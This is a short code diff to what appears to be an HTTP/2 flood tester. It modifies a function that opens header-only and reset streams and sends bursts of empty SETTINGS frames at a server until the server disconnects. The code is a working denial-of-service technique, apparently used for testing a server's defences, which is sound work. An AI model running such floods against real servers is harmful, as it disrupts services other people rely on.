@@ -122,16 +122,16 @@ window_flood = flood(WINDOW_UPDATE, struct.pack(">I", 1))
 
 
 def flood_between_calls(address, most, stop=None):
-    """SETTINGS frames around calls that bring nothing: headers alone, and ones that are given up; bytes that were sent."""
+    """SETTINGS frames between calls that bring nothing, headers alone or given up; bytes that were sent."""
     attacker, sent = Attacker(address), 0
     data = frame(SETTINGS, 0, 0, b"") * (CHUNK // 9)
     try:
         while sent < most and not (stop and stop.is_set()):
             attacker.open(1, GET_MODEL, flags=END_HEADERS | END_STREAM)
-            if sent % (500 * len(data)) == 0:
-                attacker.open(1, after=reset)
-            attacker.socket.sendall(data)
-            sent += len(data)
+            attacker.open(1, after=reset)
+            for _ in range(16):
+                attacker.socket.sendall(data)
+                sent += len(data)
     except THROWN_OUT:
         pass
     attacker.close()
